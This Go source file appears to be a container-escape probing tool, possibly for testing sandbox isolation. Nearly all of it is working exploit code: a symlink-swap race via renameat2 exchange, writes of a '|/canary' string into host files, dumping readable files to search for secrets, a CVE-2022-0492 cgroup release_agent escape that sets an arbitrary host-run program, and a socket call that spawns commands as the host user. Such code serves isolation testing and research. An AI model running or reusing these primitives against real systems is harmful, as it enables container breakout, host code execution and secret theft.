package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// swap exchanges a directory (made where there is none) or file with a link to target for as long as it
// takes: whoever looks twice sees two things.
func swap(path, target string, end time.Time) error {
	link := path + ".swap"
	_ = os.Remove(link)
	if !exists(path) {
		if err := os.MkdirAll(path+"/dir", 0o755); err != nil {
			return err
		}
	}
	if err := os.Symlink(target, link); err != nil {
		return err
	}
	n := 0
	for time.Now().Before(end) && !exists("/stop") {
		err := unix.Renameat2(unix.AT_FDCWD, path, unix.AT_FDCWD, link, unix.RENAME_EXCHANGE)
		switch {
		case err == nil:
			n++
		case errors.Is(err, unix.ENOENT): // somebody is just putting another file there
		default:
			return fmt.Errorf("exchange %s: %w", path, err)
		}
	}
	return show(map[string]int{"exchanges": n})
}

// write tries to change files that are not the container's; it prints those
// that it could.
func write(paths []string) error {
	wrote := []string{}
	for _, p := range paths {
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			continue
		}
		if _, err := f.WriteString("|/canary"); err == nil {
			wrote = append(wrote, p)
		}
		_ = f.Close()
	}
	return show(wrote)
}

// list prints what can be read of files and directories, for secrets to be
// looked for in it.
func list(paths []string) error {
	for _, p := range paths {
		if b, err := os.ReadFile(p); err == nil {
			fmt.Printf("%s: %q\n", p, b)
		}
		names, err := os.ReadDir(p)
		if err != nil {
			continue
		}
		for _, n := range names {
			b, _ := os.ReadFile(filepath.Join(p, n.Name()))
			fmt.Printf("%s/%s: %.80q\n", p, n.Name(), b)
		}
	}
	return nil
}

// releaseAgents is CVE-2022-0492: the program that the kernel runs, outside of
// all containers, when a control group becomes empty. It prints the hierarchies
// in which agent could be set.
func releaseAgents(agent string) error {
	set := []string{}
	text, err := os.ReadFile("/proc/cgroups")
	if err != nil {
		return err
	}
	names := []string{"none,name=systemd"}
	for line := range strings.Lines(string(text)) {
		if f := strings.Fields(line); len(f) > 0 && !strings.HasPrefix(f[0], "#") {
			names = append(names, f[0])
		}
	}
	for _, name := range names {
		dir, err := os.MkdirTemp("", "cgroup")
		if err != nil {
			return err
		}
		if syscall.Mount("cgroup", dir, "cgroup", 0, name) != nil {
			continue
		}
		for _, d := range []string{dir, filepath.Join(dir, "x")} {
			_ = os.Mkdir(d, 0o755)
			_ = os.WriteFile(filepath.Join(d, "notify_on_release"), []byte("1"), 0o644)
			if os.WriteFile(filepath.Join(d, "release_agent"), []byte(agent), 0o644) == nil {
				set = append(set, name)
			}
		}
	}
	return show(map[string]any{"tried": len(names), "set": set})
}

// knock asks a socket of ours to run args as the person outside.
func knock(socket string, args []string) error {
	c, err := net.Dial("unixpacket", socket)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	_ = c.SetDeadline(time.Now().Add(2 * time.Second))
	if _, err := fmt.Fprintf(c, `{"op":"spawn","args":["%s"]}`, strings.Join(args, `","`)); err != nil {
		return err
	}
	b := make([]byte, 4096)
	n, err := c.Read(b)
	if err != nil {
		return err
	}
	return show(string(b[:n]))
}
